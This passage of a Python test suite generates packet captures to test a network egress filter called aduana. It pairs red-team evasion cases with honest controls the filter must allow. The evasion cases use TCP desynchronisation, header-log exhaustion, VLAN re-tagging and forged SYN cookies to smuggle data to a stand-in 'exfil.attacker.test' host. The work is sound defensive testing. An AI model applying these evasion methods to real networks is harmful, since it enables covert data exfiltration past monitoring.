    t.raw(True, "PA", http, seq=old_next, ack=srv)
    t.raw(False, "A", seq=srv, ack=old_next + len(http))
    return cap, {"leak": [leak(n)]}


@case
def case_finold_retrans_rst_fill(n):
    """The FIN rides on a byte-for-byte retransmission of 40 old bytes (old_next-100 ..
    old_next-60; the log agrees): the server drops it whole as a duplicate, FIN included;
    aduana counts the FIN at the retransmission's end, 60 bytes back, and the RST past it."""
    cap = Capture()
    t = tls_established(cap, S1, 46007, E2M, 6007, n)
    old_next, srv = t.cseq, t.sseq
    last = tls_appdata(n + "req", 180)       # tls_established's last client record
    piece = last[-100:-60]
    t.raw(True, "FPA", piece, seq=old_next - 100, ack=srv)
    t.raw(False, "A", seq=srv, ack=old_next)
    t.raw(True, "R", seq=old_next - 60 + 1)
    t.raw(False, "A", seq=srv, ack=old_next)
    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_finold_server_plain(n):
    """Malicious server + inside client: after fin_old_close and a SYN answered by a challenge
    ACK, the new flow never learns the responder's sequence (no SYN-ACK): every server byte
    is forwarded unread (judge_tcp_long: 'picked up midstream'). The server sends plaintext
    HTTP on the old connection, which the client's socket reads."""
    cap = Capture()
    t = tls_established(cap, S1, 46009, E2M, 6009, n)
    old_next, srv = t.cseq, t.sseq
    fin_old_close(t, n)
    isn = (old_next + 100000) & 0xFFFFFFFF
    t.raw(True, "S", seq=isn, options=SYN_OPTS, gap=50000)
    t.raw(False, "A", seq=srv, ack=old_next)
    h = hello(n + "2")
    t.raw(True, "PA", h, seq=isn + 1, ack=srv)    # read by aduana (allow:e2m); the server drops it
    t.raw(False, "A", seq=srv, ack=old_next)
    resp = b"HTTP/1.1 200 OK\r\nX-Id: " + leak(n) + b"\r\nContent-Length: 0\r\n\r\n"
    t.raw(False, "PA", resp, seq=srv, ack=old_next)
    t.raw(True, "A", seq=old_next, ack=srv + len(resp))
    return cap, {"leak": [leak(n)]}

# ------------------------------------------------ F5: the log filled by one segment
@case
def case_hlog_full_rewrite(n, k=200):
    """One DF segment of 200 application-data records of 1 byte each (1200 bytes): with a
    log of 128 (red team round 12), its headers past the 128th found the log full and were
    not logged. The segment is lost after us; the client sends the same 128 records and then
    plaintext at the place of the other 72: every logged byte agreed, the rest was compared
    with nothing. Now every header is logged, and the copy is compared."""
    cap = Capture()
    t = tls_established(cap, S1, 46010, E2M, 6010, n)
    base = t.cseq
    recs = b"".join(tls_appdata(n + "t%d" % i, 1) for i in range(k))
    http = http_leak(n)
    keep = 6 * (128 if k >= 150 else k // 2)
    copy2 = recs[:keep] + http + b"x" * (len(recs) - keep - len(http))
    assert len(copy2) == len(recs)
    t.raw(True, "PA", recs, seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", copy2, seq=base, gap=200000, ipkw={"flags": "DF"})
    t.cseq = base + len(recs)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_hlog_full_rewrite_ctl(n):
    """Control: 100 records (the log holds them all): refused."""
    return case_hlog_full_rewrite(n, k=100)


# Red team round 13 (helper): the header log pool held by sessions that never
# acknowledge the server's flight (a flow then found no log, for good); more
# headers in one segment than a log held (honest: Nagle'd one-byte writes, a
# jumbo frame); an honest upload with more records in flight than a log held;
# honest port reuse with timestamps and a new ISN below the old next byte;
# honest closes then reuse.



def busy_logs(cap, n, count, ack_flight=False, base_port=20000):
    """count short e2m TLS sessions from the same host (same worker): handshake, ClientHello
    (takes a header log), the server's ACK and flight. The client never acknowledges the
    flight, so each log keeps the flight's header entries unacknowledged: not idle, not
    gone, never stealable. (ack_flight: the control, everything acknowledged.)"""
    for i in range(count):
        t = ETcp(cap, S1, base_port + i, E2M, 443, isn=100000 + 977 * i, rtt_us=2000)
        t.handshake(gap=300)
        t.send(True, hello(n + "h"))
        t.raw(False, "A")
        t.send(False, server_hello_flight(n + "h"))
        if ack_flight:
            t.raw(True, "A")


@case
def case_hlog_exhaust_rewrite(n, ack_flight=False):
    """1030 sessions hold every log of the worker's pool (judge_hlog_take: no free, gone or
    idle slot among the 32 it looks at). The victim's ClientHello finds none: acks.hlog =
    UINT32_MAX, for the flow's whole life (never retried). Then after_loss_rewrite on it."""
    cap = Capture()
    busy_logs(cap, n, 1030, ack_flight)
    v = tls_established(cap, S1, 46101, E2M, 6101, n)
    after_rewrite(v, n)
    return cap, {"leak": [leak(n)]}


@case
def case_hlog_exhaust_rewrite_ctl(n):
    """Control: the 1030 sessions acknowledge their flight (their logs are idle): refused."""
    return case_hlog_exhaust_rewrite(n, ack_flight=True)


@case
def case_hlog_exhaust_late_rewrite(n):
    """The pool is held only while the victim sends its ClientHello; then the 1030 sessions
    acknowledge their flights (their logs go idle, as after any ordinary exchange). The
    victim never retries: after_loss_rewrite on it later still passes."""
    cap = Capture()
    conns = []
    for i in range(1030):
        t = ETcp(cap, S1, 21000 + i, E2M, 443, isn=200000 + 977 * i, rtt_us=2000)
        t.handshake(gap=300)
        t.send(True, hello(n + "h"))
        t.raw(False, "A")
        t.send(False, server_hello_flight(n + "h"))
        conns.append(t)
    v = tls_established(cap, S1, 46102, E2M, 6102, n)
    for t in conns:
        t.raw(True, "A")
    v.data(True, tls_appdata(n + "later", 300))
    after_rewrite(v, n)
    return cap, {"leak": [leak(n)]}


def small_records(seed, k, body):
    return b"".join(b"\x17\x03\x03" + struct.pack("!H", body) + prand(seed + str(i), body)
                    for i in range(k))


@case
def case_hlog_nagle_small_ok(n, k=66, body=17):
    """Honest: a TLS 1.2 ChaCha20-Poly1305 session (record = 5 + data + 16) whose
    application writes 1 byte at a time while Nagle holds them behind an unacknowledged
    segment: the next segment carries 66 records of 22 bytes (1452 bytes, one MSS). The log
    is empty (everything acknowledged): judge_conform_read finds it full with n0 == 0 and
    raises exception:ambiguous."""
    cap = Capture()
    t = ETcp(cap, S1, 46103, E2M, 443, isn=6103, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, tls12_server_flight(n))
    t.data(True, b"\x16\x03\x03\x00\x25" + prand(n + "cke", 37) + CCS
           + b"\x16\x03\x03\x00\x28" + prand(n + "cfin", 40))
    t.data(False, CCS + b"\x16\x03\x03\x00\x28" + prand(n + "sfin", 40))
    t.data(True, b"\x17\x03\x03\x00\x11" + prand(n + "first", 17))   # the first keystroke
    t.data(True, small_records(n, k, body))                                # the rest, coalesced
    t.data(True, marked_record(passm(n), n + "after", 40))
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_hlog_nagle_small_ctl_ok(n):
    """Control: 60 such records in the segment: allowed."""
    return case_hlog_nagle_small_ok(n, k=60)


@case
def case_hlog_jumbo_ok(n):
    """Honest: a path with 9000-byte MTU both ways (MSS 8960; an e2m endpoint over a
    jumbo-frame interconnect): a client that streams small records (100 records of 60 bytes,
    HTTP/2 frames or log lines each written on its own) coalesced into one 6500-byte
    segment: more than 64 headers in one segment, exception:ambiguous."""
    cap = Capture()
    t = ETcp(cap, S1, 46104, E2M, 443, isn=6104, rtt_us=20000)
    o = [("MSS", 8960), ("SAckOK", b""), ("WScale", 7)]
    t.raw(True, "S", options=o)
    t.cseq += 1
    t.raw(False, "SA", options=o)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, small_records(n, 100, 60))
    t.data(True, marked_record(passm(n), n + "after", 40))
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_hlog_upload_ok(n, rec=8192, nrec=120, lag_recs=72, mss=1448):
    """Honest bulk upload (Python http.client sends a file body in 8192-byte writes: one
    TLS record each) over a path whose bandwidth-delay product is about 600 KB (50 Mbit/s,
    100 ms): the server's ACKs trail the client's next byte by ~72 records. The 65th
    unacknowledged header finds the log full: its segment is dropped (conform_log_full), the
    segments after it are past a gap (held 16, the rest dropped). The pcap then has the
    sender's recovery: the server's ACK up to the hole, and the client sending everything
    from the hole again (RTO). PASS marker in the last record."""
    cap = Capture()
    t = ETcp(cap, S1, 46105, E2M, 443, isn=6105, rtt_us=100000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    base = t.cseq
    recs = b"".join(b"\x17\x03\x03" + struct.pack("!H", rec) + prand(n + "u%d" % i, rec)
                    for i in range(nrec - 1))
    recs += marked_record(passm(n), n + "last", rec - len(passm(n)))
    lag = lag_recs * (rec + 5)
    srv = t.sseq
    acked = base
    for off in range(0, len(recs), mss):
        t.raw(True, "PA", recs[off:off + mss], seq=base + off, ack=srv, gap=230)
        sent = base + off + len(recs[off:off + mss])
        if (off // mss) % 2 == 1 and sent - lag > acked:
            acked = sent - lag
            t.raw(False, "A", seq=srv, ack=acked, gap=10)
    # Where aduana's log fills (its rule, simulated): the first segment that brings the
    # unacknowledged headers past 64. The server got everything before it.
    heads = [base + i * (rec + 5) for i in range(nrec)]
    hole, acked2 = None, base
    for off in range(0, len(recs), mss):
        sent = base + off + len(recs[off:off + mss])
        if sum(1 for h in heads if h + 5 > acked2 and h < sent) > 64:
            hole = base + off
            break
        if (off // mss) % 2 == 1 and sent - lag > acked2:
            acked2 = sent - lag
    assert hole is not None
    # The server acknowledges what it got (the hole); after the RTO the sender goes again
    # from there in slow start, each pair of segments acknowledged before the next.
    t.raw(False, "A", seq=srv, ack=hole, gap=20000)
    for off in range(hole - base, len(recs), mss):
        t.raw(True, "PA", recs[off:off + mss], seq=base + off, ack=srv,
              gap=300000 if off == hole - base else 230)
        if (off // mss) % 2 == 1:
            t.raw(False, "A", seq=srv, ack=base + off + len(recs[off:off + mss]), gap=10)
    t.cseq = base + len(recs)
    t.raw(False, "A", seq=srv, ack=t.cseq, gap=100000)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_reuse_isn_below_ts_ok(n, below=5000000):
    """Honest port reuse: a client with TCP timestamps and random ISNs (macOS, iOS,
    FreeBSD) reconnects from the same port 2 s after the server closed first (the server
    holds TIME_WAIT; the client holds nothing). Its new ISN lies below the old next byte
    (half of all random ISNs). Linux's TIME_WAIT takes the SYN for its newer timestamp
    (tcp_timewait_state_process: tw_ts_recent - rcv_tsval < 0): a new connection. aduana:
    a SYN at or before the old next byte on a closed checked flow: ambiguous."""
    cap = Capture()
    t = TsTcp(cap, S1, 46106, E2M, 443, isn=60000000 + 6106, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, tls_appdata(n + "req", 180))
    t.data(False, tls_appdata(n + "resp", 700))
    # the server closes first
    t.raw(False, "FA", options=t.opts(False))
    t.sseq += 1
    t.raw(True, "FA", options=t.opts(True))
    t.cseq += 1
    t.raw(False, "A", options=t.opts(False))
    old = t.cseq
    t.ts[True] += 2000           # 2 s later on a 1 ms clock
    t.ts[False] += 2000
    u = TsTcp(cap, S1, 46106, E2M, 443, isn=(old - below) & 0xFFFFFFFF, rtt_us=20000)
    u.ts = dict(t.ts)
    u.sseq = (t.sseq + 99999) & 0xFFFFFFFF
    cap.idle(2)
    u.handshake()
    u.data(True, hello(n + "2"))
    u.data(False, server_hello_flight(n + "2"))
    u.data(True, CCS + tls_appdata(n + "fin2", 53))
    u.data(True, marked_record(passm(n), n + "req2", 100))
    u.data(False, tls_appdata(n + "resp2", 300))
    u.close()
    return cap, {"pass": [passm(n)]}


@case
def case_reuse_isn_above_ts_ok(n):
    """Control: the same with the new ISN above the old next byte: allowed."""
    return case_reuse_isn_below_ts_ok(n, below=-5000000)


def reuse_after(cap, n, t, port, gap_s=1):
    """The same 4-tuple again gap_s later, ISN well above the old next byte, a full session
    with a PASS marker: allowed only if aduana counted the old connection as closed."""
    cap.idle(gap_s)
    u = ETcp(cap, S1, port, E2M, 443, isn=(t.cseq + 50000000) & 0xFFFFFFFF, rtt_us=20000)
    u.sseq = (t.sseq + 70000000) & 0xFFFFFFFF
    u.handshake()
    u.data(True, hello(n + "2"))
    u.data(False, server_hello_flight(n + "2"))
    u.data(True, CCS + tls_appdata(n + "fin2", 53))
    u.data(True, marked_record(passm(n), n + "req2", 100))
    u.data(False, tls_appdata(n + "resp2", 300))
    u.close()


@case
def case_simclose_reuse_ok(n):
    """Simultaneous close (both FINs cross, neither acknowledges the other), then reuse."""
    cap = Capture()
    t = tls_established(cap, S1, 46111, E2M, 6111, n)
    c, s = t.cseq, t.sseq
    t.raw(True, "FA", seq=c, ack=s)
    t.raw(False, "FA", seq=s, ack=c, gap=10)
    t.raw(True, "A", seq=c + 1, ack=s + 1)
    t.raw(False, "A", seq=s + 1, ack=c + 1, gap=10)
    t.cseq, t.sseq = c + 1, s + 1
    reuse_after(cap, n, t, 46111)
    return cap, {"pass": [passm(n)]}


@case
def case_halfclose_reuse_ok(n):
    """Client half-closes after its request (close_notify + FIN); the server goes on
    sending records, then its FIN with its last record; then reuse."""
    cap = Capture()
    t = tls_established(cap, S1, 46112, E2M, 6112, n)
    t.raw(True, "FPA", b"\x15\x03\x03\x00\x13" + prand(n + "cn", 19))
    t.cseq += 24 + 1
    t.raw(False, "A")
    for i in range(3):
        t.data(False, tls_appdata(n + "dl%d" % i, 1000))
    last = tls_appdata(n + "dlast", 500)
    t.raw(False, "FPA", last)
    t.sseq += len(last) + 1
    t.raw(True, "A")
    reuse_after(cap, n, t, 46112)
    return cap, {"pass": [passm(n)]}


@case
def case_fin_collapse_reuse_ok(n):
    """The client's last record and its FIN are lost before us; Linux retransmits them
    collapsed (tcp_retrans_try_collapse): FIN|PSH|ACK with the record. Then the server's FIN,
    reuse."""
    cap = Capture()
    t = tls_established(cap, S1, 46113, E2M, 6113, n)
    rec = tls_appdata(n + "last", 200)
    t.raw(True, "FPA", rec, gap=300000)           # (the first copies never reached us)
    t.cseq += len(rec) + 1
    t.raw(False, "FA")
    t.sseq += 1
    t.raw(True, "A")
    reuse_after(cap, n, t, 46113)
    return cap, {"pass": [passm(n)]}


@case
def case_fin_dup_reuse_ok(n):
    """The client's FIN is sent, lost after us, and sent again (the same FIN twice); the
    server then answers; reuse."""
    cap = Capture()
    t = tls_established(cap, S1, 46114, E2M, 6114, n)
    t.raw(True, "FA")
    t.raw(True, "FA", gap=300000)
    t.cseq += 1
    t.raw(False, "FA")
    t.sseq += 1
    t.raw(True, "A")
    reuse_after(cap, n, t, 46114)
    return cap, {"pass": [passm(n)]}


# Red team round 14 (helper): the "plaintext hello after application data"
# test read one body byte, random in an encrypted TLS 1.2 renegotiation
# record: 1 record in 256 was refused.

def enc_hs(seed, first, n=80):
    """An encrypted TLS 1.2 handshake record (after ChangeCipherSpec): AES-CBC's explicit
    IV (16 random bytes) then ciphertext, or ChaCha20-Poly1305's ciphertext: the first body
    byte is uniformly random. `first` fixes it (as 1 in 256 records have it)."""
    return record(22, bytes([first]) + prand(seed, n - 1), 0x0303)


def tls12_session(cap, n, port, isn):
    t = ETcp(cap, S1, port, E2M, 443, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, tls12_server_flight(n))
    cke = b"\x10\x00\x00\x21\x20" + prand(n + "cke", 32)
    t.data(True, record(22, cke, 0x0303) + CCS + enc_hs(n + "cfin", 0x5a, 64))
    t.data(False, CCS + enc_hs(n + "sfin", 0x3c, 64))
    t.data(True, tls_appdata(n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 900))
    return t


@case
def case_reneg_client_ok(n, first=0x01):
    """Honest TLS 1.2 renegotiation (Apache per-location SSLVerifyClient, IIS client
    certificates): after application data the server sends an encrypted HelloRequest, the
    client an encrypted ClientHello (type 22). With CBC's random IV or ChaCha20 the body's
    first byte is random: 1 in 256 is 0x01, read as a plaintext ClientHello (tls_rehello)."""
    cap = Capture()
    t = tls12_session(cap, n, 46301, 6301)
    t.data(False, enc_hs(n + "hreq", 0x77, 48))            # HelloRequest, encrypted
    t.data(True, enc_hs(n + "rch", first, 240))             # renegotiation ClientHello, encrypted
    t.data(False, enc_hs(n + "rsh", 0x33, 1200))            # ServerHello..Done, encrypted
    t.data(True, enc_hs(n + "rcert", 0x44, 900) + CCS + enc_hs(n + "rfin", 0x55, 64))
    t.data(False, CCS + enc_hs(n + "rsfin", 0x66, 64))
    t.data(True, marked_record(passm(n), n + "req2", 200))
    t.data(False, tls_appdata(n + "resp2", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_reneg_client_ctl_ok(n):
    """Control: the same with the first byte 0x5b: allowed."""
    return case_reneg_client_ok(n, first=0x5b)


@case
def case_reneg_server_ok(n):
    """The server's encrypted HelloRequest whose first body byte is 0x02 (1 in 256)."""
    cap = Capture()
    t = tls12_session(cap, n, 46302, 6302)
    t.data(False, enc_hs(n + "hreq", 0x02, 48))
    t.data(True, marked_record(passm(n), n + "req2", 200))
    t.data(False, tls_appdata(n + "resp2", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ red team round 15 (attacking 59ba08e, tombstones)

@case
def case_vlan_idle_fill(n):
    """Inside client able to send on two VLANs that the same next hop routes (a trunked
    host or VM, or a double tag through the native VLAN): an allowed E2M session on VLAN
    100, idle 3601 s (our entry expires and leaves a tombstone, keyed with VLAN 100), then
    gap_fill_reopen on VLAN 200. The server sees one 5-tuple (the router strips the tags)
    and answers with a challenge ACK, drops the fill as old and reads the plaintext as the
    old connection's; to aduana the SYN on VLAN 200 is another key, with no tombstone."""
    cap = Capture()
    t = tls_established(cap, S1, 46701, E2M, 6701, n, vlans=((0x8100, 100),))
    old_next, srv = t.cseq, t.sseq
    cap.idle(3601)
    t.vlans = ((0x8100, 200),)
    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_vlan_live_fill(n):
    """The same without waiting: the session on VLAN 100 is still open in our table (no
    tombstone needed at all); a SYN on VLAN 200 with the same 5-tuple opens a second,
    unrelated flow to us, while the server reads it as the open connection's bytes."""
    cap = Capture()
    t = tls_established(cap, S1, 46702, E2M, 6702, n, vlans=((0x8100, 100),))
    old_next, srv = t.cseq, t.sseq
    t.vlans = ((0x8100, 200),)
    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_idle_week_fill(n):
    """Inside client alone, patient: idle_fill, but the gap-fill SYN comes a week and an
    hour after the session's last packet. Our entry was swept at ~3700 s (a packet of the
    same address pair drives the sweep of that worker, as live traffic would) and left a
    tombstone until then + TOMB_LIFE_S; the server (Linux keeps an idle connection for
    ever: the premise of idle_fill) still holds the connection when it has gone."""
    cap = Capture()
    t = tls_established(cap, S1, 46703, E2M, 6703, n)
    old_next, srv = t.cseq, t.sseq
    cap.idle(3700)
    # Packets of that worker (the same address pair) in more than one burst, so that its
    # housekeeping runs between them (a live worker sweeps on the wall clock anyway).
    for i in range(100):
        udp(cap, S1, 40000, E2M, 9, b"tick")
    cap.idle(7 * 24 * 3600 + 60)
    for i in range(100):
        udp(cap, S1, 40001, E2M, 9, b"tick")
    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
    return cap, {"leak": [leak(n)]}


def front_hello_around(n, tail):
    """A portal.customs.example ClientHello whose last extension (GREASE 0x7a7a, opaque)
    holds `tail` as its data: (fill, tail), fill being every byte before tail."""
    exts = ([sni_ext([sni_entry(FRONT_NAME.encode())])] + std_exts(n + "ck") + [alpn_ext()]
            + [ext(0x7A7A, tail)])
    h = hello(n + "ck", exts=exts)
    assert h.endswith(tail)
    return h[:-len(tail)], tail


COOKIE_SA_OPTS = [("MSS", 1460)]   # a cookie SYN-ACK without timestamps keeps no WScale/SACK


def cookie_fill(t, n, z, yp, tail, fill_ack=None):
    """After SYN z answered by the SYN cookie yp (seq yp, ack z+1): the fill (a portal
    hello up to its last extension's data) at z+1 without ACK (a listener discards a
    segment without ACK; to aduana, before the verdict, it is read), then `tail` at the
    latent ISN x = z + len(fill) with ACK cookie(x) + 1 = yp + (x - z) + 1 (Linux
    secure_tcp_syn_cookie is the client's ISN plus terms that do not depend on it): the
    server creates the connection of ISN x from that ACK and reads `tail` as its first
    bytes; aduana reads it as the portal hello's last extension, before the verdict (no
    ACK check)."""
    fill, tail = front_hello_around(n, tail)
    x = (z + len(fill)) & 0xFFFFFFFF
    y = (yp + (x - z)) & 0xFFFFFFFF
    if fill_ack is None:
        t.raw(True, "P", fill, seq=(z + 1) & 0xFFFFFFFF)
    else:
        # an ACK that is no cookie for ISN z: the listener answers with a RST at that number
        t.raw(True, "PA", fill, seq=(z + 1) & 0xFFFFFFFF, ack=fill_ack)
        t.raw(False, "R", seq=fill_ack)
    t.raw(True, "PA", tail, seq=(x + 1) & 0xFFFFFFFF, ack=(y + 1) & 0xFFFFFFFF)
    nxt = (x + 1 + len(tail)) & 0xFFFFFFFF
    t.raw(False, "A", seq=(y + 1) & 0xFFFFFFFF, ack=nxt)
    t.raw(False, "PA", server_hello_flight(n), seq=(y + 1) & 0xFFFFFFFF, ack=nxt)
    return x, y


@case
def case_syncookie_front_fill(n):
    """Inside client alone, the shared front in SYN-cookie mode (tcp_syncookies=2, a SYN
    proxy, or a listen queue the client filled itself with SYNs through us): one SYN (ISN
    z), the cookie SYN-ACK yp. The client never acknowledges it; a cookie is linear in the
    client ISN, so it computes the cookie of an ISN x it never sent and opens that
    connection with an ACK alone (cookie_fill). The front reads the exfil ClientHello at
    x+1 and serves exfil.attacker.test; aduana, whose stream starts at z+1, reads a portal
    hello whose last extension holds those bytes, and allows."""
    cap = Capture()
    z = 0x3A000000
    t = ETcp(cap, S1, 46704, FRONT, 443, isn=z, rtt_us=20000)
    yp = 0x7C123456
    t.raw(True, "S", seq=z, options=SYN_OPTS)
    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
    cookie_fill(t, n, z, yp, hello(n, sni=EVIL, sid=sid32(leak(n))))
    return cap, {"leak": [leak(n)]}


@case
def case_syncookie_reopen_fill(n):
    """The same on a tombstoned key: the first SYN (ISN x) gets the cookie y, and an exact
    RST closes that flow to us (to a cookie listener, a RST finds nothing: ignored); its
    tombstone makes the next flow wait for a SYN-ACK. The SYN at z = x - len(fill) gets
    the cookie y - (x - z): a SYN-ACK, so the gate opens; the fill, then the exfil hello at
    x+1 with ACK y+1, which creates the connection of ISN x. A server that kept the old
    connection (here: could still create it) does send a SYN-ACK."""
    cap = Capture()
    fill, _ = front_hello_around(n, hello(n, sni=EVIL, sid=sid32(leak(n))))
    x = 0x3B000000
    y = 0x7D654321
    z = (x - len(fill)) & 0xFFFFFFFF
    yp = (y - (x - z)) & 0xFFFFFFFF
    t = ETcp(cap, S1, 46705, FRONT, 443, isn=x, rtt_us=20000)
    t.raw(True, "S", seq=x, options=SYN_OPTS)
    t.raw(False, "SA", seq=y, ack=x + 1, options=COOKIE_SA_OPTS)
    t.raw(True, "R", seq=x + 1)
    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=200000)
    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
    x2, y2 = cookie_fill(t, n, z, yp, hello(n, sni=EVIL, sid=sid32(leak(n))))
    assert (x2, y2) == (x, y)
    return cap, {"leak": [leak(n)]}


def new_session(cap, cport, isn, n, first_syn=True):
    """A whole new e2m session on the same ports (handshake, hello, flight, a marked request)."""
    u = ETcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000)
    u.sseq = (isn * 7 + 4000) & 0x7FFFFFFF
    if first_syn:
        u.handshake()
    else:
        u.cseq += 1
        u.raw(False, "SA", seq=u.sseq, ack=u.cseq, options=SYN_OPTS)
        u.sseq += 1
        u.raw(True, "A")
    u.data(True, hello(n + "2"))
    u.data(False, server_hello_flight(n + "2"))
    u.data(True, CCS + tls_appdata(n + "fin2", 53))
    u.data(True, marked_record(passm(n), n + "req2", 200))
    u.data(False, tls_appdata(n + "resp2", 400))
    u.close()
    return u


@case
def case_reuse_challenge_rst_retry_ok(n):
    """Must-allow, RFC 5961 half-open recovery: the client lost its connection (a reboot)
    that the server still holds, idle 3601 s here (tombstone); it reuses the ports: SYN,
    the server's challenge ACK, the client's RST at that ACK's number (the server resets
    the old connection), the SYN again 1 s later, a SYN-ACK, a whole session."""
    cap = Capture()
    t = tls_established(cap, S1, 46706, E2M, 6706, n)
    old_next, srv = t.cseq, t.sseq
    cap.idle(3601)
    z = (old_next + 9999999) & 0xFFFFFFFF
    t.raw(True, "S", seq=z, options=SYN_OPTS)
    t.raw(False, "A", seq=srv, ack=old_next)          # challenge ACK
    t.raw(True, "R", seq=old_next)                     # tcp_rcv_synsent_state_process: reset at its ack
    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=1000000)
    new_session(cap, 46706, z, n, first_syn=False)
    return cap, {"pass": [passm(n)]}


@case
def case_reuse_tw_rst_retry_ok(n):
    """Must-allow: a session closed by the server first (it holds TIME_WAIT), the client
    reuses the ports 2 s later with an ISN below, no timestamps: TIME_WAIT answers with an
    ACK, the client resets at its number (TIME_WAIT goes), the SYN again, a SYN-ACK."""
    cap = Capture()
    t = tls_established(cap, S1, 46707, E2M, 6707, n)
    t.raw(False, "FA")
    t.sseq += 1
    t.raw(True, "FA")
    t.cseq += 1
    t.raw(False, "A")
    old_next, srv = t.cseq, t.sseq
    z = (old_next - 3000) & 0xFFFFFFFF
    assert z < old_next
    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=2000000)
    t.raw(False, "A", seq=srv, ack=old_next)          # TIME_WAIT's ACK
    t.raw(True, "R", seq=old_next)
    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=1000000)
    new_session(cap, 46707, z, n, first_syn=False)
    return cap, {"pass": [passm(n)]}


@case
def case_reuse_synack_lost_ok(n):
    """Must-allow: port reuse after 3601 s idle (tombstone): the server's SYN-ACK is lost
    after us, the client sends its SYN again, the server its SYN-ACK again, a session."""
    cap = Capture()
    t = tls_established(cap, S1, 46708, E2M, 6708, n)
    cap.idle(3601)
    z = (t.cseq + 123456) & 0xFFFFFFFF
    u = ETcp(cap, S1, 46708, E2M, 443, isn=z, rtt_us=20000)
    u.raw(True, "S", seq=z, options=SYN_OPTS)
    u.raw(False, "SA", seq=u.sseq, ack=z + 1, options=SYN_OPTS)   # lost after us
    u.raw(True, "S", seq=z, options=SYN_OPTS, gap=1000000)
    new_session(cap, 46708, z, n, first_syn=False)
    return cap, {"pass": [passm(n)]}



class SplitVlanTcp(ETcp):
    """ETcp whose client frames carry cvlans and server frames svlans."""

    def __init__(self, *a, cvlans=(), svlans=(), **kw):
        super().__init__(*a, **kw)
        self.cvlans, self.svlans = cvlans, svlans

    def raw(self, from_client, flags, *a, **kw):
        self.vlans = self.cvlans if from_client else self.svlans
        return ETcp.raw(self, from_client, flags, *a, **kw)


@case
def case_vlan_return_fill(n):
    """vlan_live_fill with the routing a real router does: the client sends its new SYN,
    fill and plaintext on VLAN 200, while the server's answers come back on VLAN 100 (the
    router's route to 10.10.1.10), where they meet the old flow (the challenge ACK and the
    duplicate ACKs are ACKs of the old connection to it). The new flow is read from its
    client frames alone."""
    cap = Capture()
    t = tls_established(cap, S1, 46709, E2M, 6709, n, vlans=((0x8100, 100),))
    old_next, srv = t.cseq, t.sseq
    u = SplitVlanTcp(cap, S1, 46709, E2M, 443, isn=6709, rtt_us=20000,
                     cvlans=((0x8100, 200),), svlans=((0x8100, 100),))
    u.cseq, u.sseq = t.cseq, t.sseq
    gap_fill_reopen(u, n, old_next, srv, http_leak(n))
    # The plaintext sent again on VLAN 200 (a client whose bytes were not acknowledged):
    # the new flow's record is then the tuple's last, as the scorer reads it.
    u.raw(True, "PA", http_leak(n), seq=old_next, ack=srv, gap=200000)
    return cap, {"leak": [leak(n)]}


@case
def case_syncookie_front_fill_ack(n):
    """syncookie_front_fill with an ACK on the fill (yp: one before the SYN-ACK's end, no
    cookie for ISN z): the listener answers it with a RST at yp (not at our responder's
    next byte: no close to us), and the rest goes as before. The attack does not rest on
    the fill having no ACK."""
    cap = Capture()
    z = 0x3C000000
    t = ETcp(cap, S1, 46710, FRONT, 443, isn=z, rtt_us=20000)
    yp = 0x7E123456
    t.raw(True, "S", seq=z, options=SYN_OPTS)
    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
    cookie_fill(t, n, z, yp, hello(n, sni=EVIL, sid=sid32(leak(n))), fill_ack=yp)
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ red team round 16 (attacking 7530b7f)

@case
def case_syncookie_bareack_fill(n):
    """Inside client alone, the shared front in SYN-cookie mode (as syncookie_front_fill). One
    SYN (ISN z), the cookie SYN-ACK yp. The client first opens the connection of ISN x = z +
    len(fill) with a bare ACK carrying the cookie of x (y + 1, y = yp + (x - z): the cookie is
    linear in the ISN): the pre-verdict ACK rule reads only segments with payload, so the bare
    ACK passes unchecked and the listener creates connection x (rcv_nxt x+1, snd_una y+1).
    Then the fill (a portal hello up to its last extension's data) at z+1 with ACK yp+1 (in
    aduana's range): to connection x it ends exactly at rcv_nxt, a pure duplicate, dropped
    unread. Then the exfil hello at x+1, also with ACK yp+1: aduana takes the ACK (the
    responder's next byte) and reads the bytes as the portal hello's last extension; the
    server takes it too: an ACK below SND.UNA but within MAX.SND.WND of it is acceptable (RFC
    5961 5.2; Linux tcp_ack "old_ack", before the bytes_acked bound of Linux 6.2) and the
    segment's data is queued as connection x's first bytes: the front serves exfil."""
    cap = Capture()
    z = 0x3D000000
    t = ETcp(cap, S1, 46801, FRONT, 443, isn=z, rtt_us=20000)
    yp = 0x7F123456
